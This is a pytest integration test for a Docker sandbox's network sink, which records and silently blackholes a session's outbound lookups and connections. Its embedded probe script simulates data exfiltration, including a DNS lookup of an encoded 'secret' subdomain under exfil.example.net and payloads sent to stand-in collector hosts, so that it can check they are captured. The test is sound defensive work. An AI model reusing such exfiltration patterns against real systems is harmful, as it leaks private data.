"""The network sink against a real engine: a session in the sink's namespace has its lookups
and connections recorded and answered by nothing, while a test's own local server still
works, and the sink is gone afterwards.

Needs a running Docker engine and the python runner image (``make runner-image``).
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from bot.errors import SandboxError
from bot.sandbox.base import Limits
from bot.sandbox.docker import RUNNER_IMAGE, DockerSandbox
from bot.sandbox.netsink import SINK_LABEL, Attempt
from tests.integration.docker_engine import docker_engine

pytestmark = pytest.mark.docker

TEST_LABEL = "forgebot.test"
LABELS = {TEST_LABEL: "test_netsink", "forgebot.job": "7"}

PROBE = r"""
import socket, threading, http.server, urllib.request

def attempt(host, port, data):
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.sendall(data)
            conn.settimeout(5)
            print(host, port, "answered", len(conn.recv(100)))
    except OSError as exc:
        print(host, port, "failed", type(exc).__name__)

attempt("collector.example.com", 443, b"x" * 517)
attempt("api.example.org", 80, b"GET /k HTTP/1.1\r\nHost: api.example.org\r\n\r\n")
attempt("203.0.113.9", 443, b"direct")
try:
    socket.getaddrinfo("c2VjcmV0.exfil.example.net", 53)
except OSError:
    pass

server = http.server.HTTPServer(("127.0.0.1", 8080), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print("local server", urllib.request.urlopen("http://127.0.0.1:8080/").status)
"""


@pytest.fixture(scope="module")
def sandbox() -> Iterator[DockerSandbox]:
    with docker_engine([RUNNER_IMAGE], f"{TEST_LABEL}=test_netsink") as client:
        yield DockerSandbox(client)


def test_attempts_are_recorded_and_answered_by_nothing(sandbox: DockerSandbox) -> None:
    session = sandbox.start_observed(RUNNER_IMAGE, Limits(pids=128), LABELS, RUNNER_IMAGE)
    try:
        result = session.run(["python3", "-c", PROBE], 60)
    finally:
        session.close()

    out = result.stdout.splitlines()
    assert "collector.example.com 443 answered 0" in out
    assert "api.example.org 80 answered 0" in out
    assert "203.0.113.9 443 failed OSError" in out  # no route to an address: not recorded
    assert "local server 200" in out  # a test's own server on a high port is untouched
    names = {a.name for a in session.attempts if a.kind == "dns"}
    assert {"collector.example.com", "api.example.org", "c2vjcmv0.exfil.example.net"} <= names
    assert Attempt("tcp", "", 443, 517) in session.attempts
    request = b"GET /k HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
    [plain] = [a for a in session.attempts if a == Attempt("tcp", "api.example.org", 80,
                                                             len(request))]
    assert plain.head == request  # kept for the canary search
    assert not any("203.0.113.9" in a.name for a in session.attempts)


def test_the_sink_is_removed_and_cannot_be_touched_from_the_session(
        sandbox: DockerSandbox) -> None:
    session = sandbox.start_observed(RUNNER_IMAGE, Limits(pids=128), LABELS, RUNNER_IMAGE)
    try:
        seen = session.run(["sh", "-c", "ls /opt; ps -e -o comm= | sort -u; id -u"], 30)
    finally:
        session.close()

    assert "forgebot-sink" not in seen.stdout and "python3" not in seen.stdout
    assert seen.stdout.split()[-1] != "0"
    left = sandbox.client.containers.list(all=True, filters={"label": SINK_LABEL})
    assert [c for c in left if c.labels.get(TEST_LABEL) == "test_netsink"] == []


def test_a_sink_that_cannot_start_leaves_nothing(sandbox: DockerSandbox) -> None:
    with pytest.raises(SandboxError):
        sandbox.start_observed(RUNNER_IMAGE, Limits(), LABELS, "forgebot-no-such-image:0")
    left = sandbox.client.containers.list(all=True, filters={"label": SINK_LABEL})
    assert [c for c in left if c.labels.get(TEST_LABEL) == "test_netsink"] == []

